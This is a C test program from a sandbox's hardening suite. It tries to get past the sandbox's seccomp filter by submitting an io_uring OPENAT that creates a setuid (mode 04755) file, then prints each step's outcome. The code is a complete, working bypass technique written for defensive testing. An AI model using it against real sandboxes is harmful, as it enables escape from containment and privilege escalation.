/*
 * An attack on the sandbox's seccomp filter, compiled by the tests with `cc`
 * (tests/suite/hardening.rs): create PATH (argv[1]) with mode 04755 through
 * io_uring's IORING_OP_OPENAT, whose mode the kernel reads from a ring in
 * shared memory that no seccomp filter sees. Prints one line per step:
 *
 *   io_uring_register: errno N     (EBADF or EINVAL where the kernel runs it)
 *   io_uring_enter: errno N        (likewise)
 *   io_uring_setup: errno N | ok
 *   openat: RESULT                 (a descriptor, or -errno)
 *
 * Written against <linux/io_uring.h> alone (no liburing), as the ring's
 * layout is documented in io_uring_setup(2).
 */
#include <errno.h>
#include <fcntl.h>
#include <linux/io_uring.h>
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <unistd.h>

int main(int argc, char **argv) {
    const char *path = argc > 1 ? argv[1] : "suid-uring";

    /* No ring: a kernel that runs the call answers EBADF or EINVAL. */
    long r = syscall(__NR_io_uring_register, -1, 0, NULL, 0);
    printf("io_uring_register: errno %d\n", r < 0 ? errno : 0);
    r = syscall(__NR_io_uring_enter, -1, 0, 0, 0, NULL, 0);
    printf("io_uring_enter: errno %d\n", r < 0 ? errno : 0);

    struct io_uring_params p;
    memset(&p, 0, sizeof p);
    int ring = (int)syscall(__NR_io_uring_setup, 4, &p);
    if (ring < 0) {
        printf("io_uring_setup: errno %d\n", errno);
        return 0;
    }
    printf("io_uring_setup: ok\n");

    size_t sq_len = p.sq_off.array + p.sq_entries * sizeof(unsigned);
    size_t cq_len = p.cq_off.cqes + p.cq_entries * sizeof(struct io_uring_cqe);
    int single = (p.features & IORING_FEAT_SINGLE_MMAP) != 0;
    if (single && cq_len > sq_len)
        sq_len = cq_len;
    char *sq = mmap(NULL, sq_len, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, ring,
                    IORING_OFF_SQ_RING);
    char *cq = single ? sq
                      : mmap(NULL, cq_len, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE,
                             ring, IORING_OFF_CQ_RING);
    struct io_uring_sqe *sqes =
        mmap(NULL, p.sq_entries * sizeof(struct io_uring_sqe), PROT_READ | PROT_WRITE,
             MAP_SHARED | MAP_POPULATE, ring, IORING_OFF_SQES);
    if (sq == MAP_FAILED || cq == MAP_FAILED || sqes == MAP_FAILED) {
        printf("mmap: errno %d\n", errno);
        return 0;
    }

    unsigned *tail = (unsigned *)(sq + p.sq_off.tail);
    unsigned *mask = (unsigned *)(sq + p.sq_off.ring_mask);
    unsigned *array = (unsigned *)(sq + p.sq_off.array);
    unsigned index = *tail & *mask;
    struct io_uring_sqe *sqe = &sqes[index];
    memset(sqe, 0, sizeof *sqe);
    sqe->opcode = IORING_OP_OPENAT;
    sqe->fd = AT_FDCWD;
    sqe->addr = (unsigned long)path;
    sqe->len = 04755; /* the mode */
    sqe->open_flags = O_CREAT | O_WRONLY | O_EXCL;
    array[index] = index;
    __atomic_store_n(tail, *tail + 1, __ATOMIC_RELEASE);

    r = syscall(__NR_io_uring_enter, ring, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0);
    if (r < 0) {
        printf("submit: errno %d\n", errno);
        return 0;
    }
    unsigned head = __atomic_load_n((unsigned *)(cq + p.cq_off.head), __ATOMIC_ACQUIRE);
    unsigned cmask = *(unsigned *)(cq + p.cq_off.ring_mask);
    struct io_uring_cqe *cqes = (struct io_uring_cqe *)(cq + p.cq_off.cqes);
    printf("openat: %d\n", cqes[head & cmask].res);
    return 0;
}
